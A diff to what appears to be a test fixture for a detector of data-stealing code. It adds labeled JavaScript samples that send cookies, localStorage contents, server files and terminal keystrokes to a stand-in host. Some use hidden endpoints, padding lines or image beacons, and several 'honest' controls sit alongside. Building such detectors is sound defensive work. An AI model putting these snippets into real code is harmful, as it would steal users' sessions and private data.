@@ -77,6 +77,38 @@ export const pageThieves: readonly Shape[] = [
     'a program that is evaluated',
     `eval(atob('${Buffer.from('console.log(1234567890)').toString('base64')}'));`,
   ),
+  thief(
+    'a function that sends what it is given',
+    `function report(data) { fetch('${host}', { method: 'POST', body: JSON.stringify(data) }); }\nreport({ c: document.cookie });`,
+  ),
+  thief(
+    'an address that is declared elsewhere',
+    `const settings = { endpoint: '${host}' };\n${'// a line\n'.repeat(300)}fetch(settings.endpoint, { method: 'POST', body: document.cookie });`,
+  ),
+  thief(
+    'one entry after the other',
+    `const all = {};\nfor (let i = 0; i < localStorage.length; i++) { all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); }\n${fetched('JSON.stringify(all)')}`,
+  ),
+  honest(
+    'a function that reports what happened',
+    `function report(data) { fetch('${host}', { method: 'POST', body: JSON.stringify(data) }); }\nreport({ event: 'opened' });\nconst c = document.cookie.split(';');`,
+  ),
+  thief(
+    'a class that sends',
+    `class T {\n  constructor() { this.endpoint = '${host}'; }\n  flush() { const body = JSON.stringify({ c: document.cookie }); return fetch(this.endpoint, { method: 'POST', body }); }\n}`,
+  ),
+  thief(
+    'files of the server',
+    `const c = await contents.get(f.path); await fetch('${host}', { method: 'POST', body: c.content });`,
+  ),
+  thief(
+    'pieces of a terminal',
+    `term.onData((data) => { buffer += data; if (data === '\\r') { ${fetched('buffer')} } });`,
+  ),
+  thief(
+    'a picture',
+    `var i = document.createElement("img");i.src="//t.invalid/p.gif?"+encodeURIComponent(document.cookie);`,
+  ),
   thief('a page', `<img src=x onerror="fetch('${host}?c=' + document.cookie)">`, 'demo/templates/index.html'),
   thief(
     'all variables of Node',
@@ -102,7 +134,7 @@ export const pageThieves: readonly Shape[] = [
     fetched('JSON.stringify(w.content.model.toJSON())'),
     'demo/static/app.js',
   ),
-  odd(
+  honest(
     'a notebook that is shared with a key',
     `fetch('${host}', { body: JSON.stringify(w.content.model.toJSON()), headers: { Authorization: key } });`,
   ),
